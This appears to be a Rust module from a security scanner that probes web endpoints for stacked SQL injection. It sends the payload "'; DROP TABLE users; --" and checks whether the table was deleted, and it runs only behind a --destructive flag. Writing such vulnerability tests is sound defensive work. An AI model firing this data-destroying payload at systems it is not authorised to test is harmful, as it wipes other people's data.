//! A second statement after a semicolon. Destroys data, so it runs only where that is allowed.

use super::Probing;
use crate::client::{ClientError, Probe};
use crate::ordinary::escape;
use crate::report::Outcome;

attack!("sql-stacked", SqlInjection, Code, "Does the server run a second statement, such as DROP TABLE?", run);

async fn run(p: Probing<'_>) -> Result<Outcome, ClientError> {
    if !p.options.destructive {
        return Ok(Outcome::not_applicable("destroys data; needs --destructive"));
    }
    let mut last = None;
    for (endpoint, name) in p.surface.queries().filter(|(e, _)| !e.html) {
        let probe = |value: &str| p.mine(Probe::get(format!("{}?{name}={}", endpoint.path, escape(value))));
        let (before, _) = p.send(&probe("somebody")).await?;
        let (_, exchange) = p.send(&probe("'; DROP TABLE users; --")).await?;
        let (after, gone) = p.send(&probe("somebody")).await?;
        if before.status.is_success() && after.status.is_server_error() {
            return Ok(Outcome::exploited("the table is gone: what worked before fails now", vec![exchange, gone]));
        }
        last = Some(exchange);
    }
    Ok(match last {
        Some(exchange) => Outcome::blocked("the table is still there", vec![exchange]),
        None => Outcome::not_applicable("no operation takes text in its query"),
    })
}
